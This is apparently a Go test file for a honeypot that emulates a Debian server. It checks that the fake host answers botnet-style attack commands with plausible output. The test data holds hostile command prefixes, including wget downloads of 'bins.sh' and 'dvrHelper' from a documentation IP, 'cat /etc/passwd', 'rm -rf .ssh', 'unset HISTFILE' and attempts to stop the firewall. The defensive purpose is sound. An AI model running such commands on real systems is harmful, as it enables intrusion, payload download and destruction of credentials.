package programs

import (
	"context"
	"net/netip"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/lapwing-defence/lapwing/internal/clock"
	"github.com/lapwing-defence/lapwing/internal/host"
	"github.com/lapwing-defence/lapwing/internal/host/netcmd"
	"github.com/lapwing-defence/lapwing/internal/persona"
	"github.com/lapwing-defence/lapwing/internal/sharedtest"
)

// answers is what a line of the table of attack commands must give, by the
// beginning of the line: a pattern of the output and the exit status.
var answers = []struct {
	line, want string
	status     int
}{
	{"/bin/./uname -s", `^Linux \S+ 6\.1\.0-\d+-amd64 #1 SMP .* x86_64\n$`, 0},
	{"uname -a", `^Linux .* x86_64 GNU/Linux\n$`, 0},
	{"uname -m", `^x86_64\n$`, 0},
	{"uname -s -m", `^Linux x86_64\n$`, 0},
	{"export PATH=", `^$`, 0},
	{"( [ -f /proc/version ]", `^Linux\n$`, 0},
	{"whoami", `^root\n$`, 0},
	{"grep -c", `^\d+\n$`, 0},
	{"cat /proc/cpuinfo | grep name | wc", `^\d+\n$`, 0},
	{"cat /proc/cpuinfo | grep model", `^\d+\n$`, 0},
	{"cat /proc/cpuinfo | grep name | head", `^.{20,30}$`, 0},
	{"free -m", `^\d+ \d+ \d+ \d+ \d+ \d+\n$`, 0},
	{"which ls", `^/usr/bin/ls\n$`, 0},
	{"ls -lh $(which ls)", `^-rwxr-xr-x 1 root root 148K .* /usr/bin/ls\n$`, 0},
	{"crontab -l", `^no crontab for root\n$`, 1},
	{"w", `(?s)^ \d\d:\d\d:\d\d up .*USER +TTY`, 0},
	{"top", `^TERM environment variable not set.\n$`, 1},
	{"LC_ALL=C top", `(?s)^top - .*load average.*%Cpu.*MiB Mem.*COMMAND\n`, 0},
	{"lscpu | grep Model", `(?s)Model name: .*Model: `, 0},
	{"df -h", `^[\d.]+[MGT]\n$`, 0},
	{"lspci", `^\S*\n$`, 0},
	{"nvidia-smi", `^bash: line 1: nvidia-smi: command not found\n$`, 1},
	{"cat /proc/meminfo", `^MemTotal: +\d+ kB\nMemFree`, 0},
	{"cat /etc/passwd", `^root:x:0:0:root:/root:/bin/bash\n`, 0},
	{"cut -d: -f6", `^(/home/\w+\n)+$`, 0},
	{"cat /proc/1/mounts", `(?s)sysfs /sys.*cmdline.*curl2: command not found.*USER .*PID TTY`, 0},
	{"ps aux | head", `(?s)^USER +PID %CPU.*\[kthreadd\]`, 0},
	{"ps | grep", `^$`, 1},
	{"ls -la ~/.local", `(?s)cannot access '/root/\.local/.*cannot access '/home/\*/`, 2},
	{"/ip cloud", `^bash: line 1: /ip: No such file or directory\n$`, 127},
	{"INFO PRODINFO", `^bash: line 1: INFO: command not found\n$`, 127},
	{"netstat", `(?s)0\.0\.0\.0:22 .*LISTEN .*sshd`, 0},
	{"mount | head", `^sysfs on /sys type sysfs`, 0},
	{"env | head", `(?s)HOME=/root.*SSH_CLIENT=198\.51\.100\.7 4000 22`, 0},
	{"ssh -V", `^OpenSSH_9\.2p1 Debian`, 0},
	{"dmesg", `(?s)Linux version .*Command line`, 0},
	{`echo -e "\x6F\x6B"`, `^ok\n$`, 0},
	{`echo -e "\x61`, `^auth_ok\n\n$`, 0},
	{"echo \"PROC:", `^PROC:\d+ VER:Linux `, 0},
	{`echo "321"`, `^cat: /var/tmp/\S+: No such file or directory\n$`, 0},
	{"echo 1 > /var/tmp", `^1\n$`, 0},
	{"cd ~ && rm -rf .ssh", `^$`, 0},
	{`echo "root:Xy`, `^$`, 0},
	{"rm -rf /tmp/secure.sh", `^$`, 1},
	{"enable", `enable \.\nenable :\n`, 0},
	{"system", `^bash: line 1: system: command not found\n$`, 127},
	{"/bin/busybox ECCHI", `^ECCHI: applet not found\n$`, 127},
	{"cd /dev/shm;", `(?s)cat: \.s: No such file.*SMJKD: applet not found\n$`, 127},
	{">/tmp/.ptmx", `^$`, 0},
	{">/dev/netslink", `^bash: line 1: /dev/netslink/\.ptmx: No such file or directory\n$`, 1},
	{"/bin/busybox cp", `^AK1K2: applet not found\n$`, 127},
	{`/bin/busybox echo -e '\x6b\x61\x6d\x69/sys'`, `(?s)/sys/\.nippon: Permission denied.*cat: can't open '/sys/\.nippon': No such file.*rm: can't remove`, 1},
	{`/bin/busybox echo -e '\x6b\x61\x6d\x69/proc'`, `(?s)/proc/\.nippon: No such file.*cat: can't open '/proc/\.nippon': No such file`, 1},
	{"rm /.t;", `(?s)(rm: cannot remove .*\n){3}`, 1},
	{"cd /; /bin/busybox cp", `^ECCHI: applet not found\n$`, 127},
	{"ls /home; ps aux", `(?s)ZONESEC: applet not found\n$`, 127},
	{"/gweerwe323f", `^bash: line 1: /gweerwe323f: No such file or directory\n$`, 127},
	{"wget http://198.51.100.7/bins.sh", `(?s)Connecting to 198\.51\.100\.7:80\.\.\. connected\..*saved`, 0},
	{"wget -O - -q", `^$`, 0},
	{"curl -sk", `^$`, 0},
	{"cd /data/local", `^bash: line 1: cd: /data/local/tmp/: No such file or directory\n`, 2},
	{"unset HISTFILE", `^$`, 0},
	{"apt-get install", `(?s)wget is already the newest version.*E: Unable to locate package tftp`, 100},
	{`echo "cd /tmp/" >>`, `^$`, 0},
	{"/etc/init.d/iptables", `(?s)No such file or directory.*Failed to stop iptables\.service: Unit iptables\.service not loaded\..*SuSEfirewall2: command not found`, 127},
	{"if [ $(uname -m)", `GOTCHA\n$`, 0},
	{"cd /home/richard", `No such file or directory\n$`, 1},
	{"exit", `^$`, 0},
	{"chmod +x clean.sh", `(?s)x86_64 GNU/Linux\nauth_ok\n\n$`, 0},
	{"/bin/busybox TEST", `^TEST: applet not found\n$`, 127},
	{"pm path", `^bash: line 1: pm: command not found\n$`, 127},
	{"cd /tmp && wget -q", `^$`, 0},
	{"rm -rf *.sh", `^$`, 0},
	{"./scn", `^$`, 0},
	{"/usr/bin/tee", `^$`, 0},
	{"ulimit -n", `^$`, 0},
	{"sudo pkill", `^$`, 1},
	{"uname", `^Linux\n$`, 0},
	{"lscpu | sed", `^$|@ \d\.\d\dGHz\n$`, 0},
	{"locate", `^bash: line 1: locate: command not found\n$`, 127},
	{"echo SSH_TEST_OK", `^SSH_TEST_OK\n$`, 0},
	{"echo xsec", `^xsec\n$`, 0},
	{"rm -rf /var/tmp/dota*", `^$`, 0},
	{`echo "root toucan"`, `^$`, 0},
	{"sleep 15s", `^$`, 0},
	{"/bin/busybox ps;", `(?s)PID +USER.*ECCHI: applet not found\n$`, 127},
	{"cat /proc/mounts;", `(?s)^sysfs /sys sysfs .*SMJKD: applet not found\n$`, 127},
	{"dd bs=52", `(?s)dd: failed to open '\.s': No such file or directory\ncat: \.s: No such file or directory\nbash: line 1: \.s: No such file or directory\n$`, 1},
	{"rm .s;", `^rm: cannot remove '\.s': No such file or directory\n$`, 1},
	{">/etc/.ptmx", `^$`, 0},
	{"/bin/busybox cat", `^\x7fELF\x02\x01`, 0},
	{"cat /bin/echo", `^\x7fELF\x02\x01`, 0},
	{"nohup curl", `(?s)% Total.*Dload`, 0},
	{"busybox tftp", `^$`, 0},
	{"wget http://198.51.100.7/bin/dvrHelper", `(?s)saved`, 0},
	{"scp -tr", `^\x00\x01scp: protocol error`, 1},
	{"LC_ALL=C crontab -", `^"-":1: bad minute\nerrors in crontab file, can't install\.\n$`, 1},
	{"ping;", `(?s)usage error: Destination address required.*tftp: command not found.*sh: 0: cannot open rr: No such file\n$`, 2},
}

// quick is a clock on which nobody waits.
type quick struct{ clock.Clock }

func (quick) Sleep(context.Context, time.Duration) error { return nil }

func quickHost(t *testing.T) *host.Host {
	t.Helper()
	p, err := persona.Generate("debian-server", 7, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	return host.New(host.Config{Name: "files", Persona: p, Programs: All(), Clock: quick{clock.System()}, Net: netcmd.World{Downloads: "serve"}})
}

func TestAttackCommands(t *testing.T) {
	data, err := os.ReadFile(sharedtest.Dir(t) + "/decoys/attack_commands.tsv")
	if err != nil {
		t.Skip("the table of attack commands is not here: ", err)
	}
	lines := strings.Split(string(data), "\n")
	for _, a := range answers {
		t.Run(a.line, func(t *testing.T) {
			for _, l := range lines {
				cmd, _, ok := strings.Cut(l, "\t")
				exact := !strings.ContainsAny(a.line, " /.:>")
				if slices.ContainsFunc(lines, func(l string) bool { return strings.HasPrefix(l, a.line+"\t") }) && cmd != a.line {
					continue // the table has the very line
				}
				if !ok || !strings.HasPrefix(cmd, a.line) || exact && cmd != a.line && !strings.HasPrefix(cmd, a.line+" ") {
					continue
				}
				// Each line meets a host of its own, as most bots do.
				v := quickHost(t).Visit(t.Context(), netip.MustParseAddr("198.51.100.7"))
				out, rc := run(t, v, cmd, "stdin data\n")
				if !regexp.MustCompile(a.want).MatchString(out) || rc != a.status {
					t.Errorf("%q\ngives [%d] %.400q\nwant  [%d] %s", cmd, rc, out, a.status, a.want)
				}
				return
			}
			t.Error("no such line in the table")
		})
	}
}
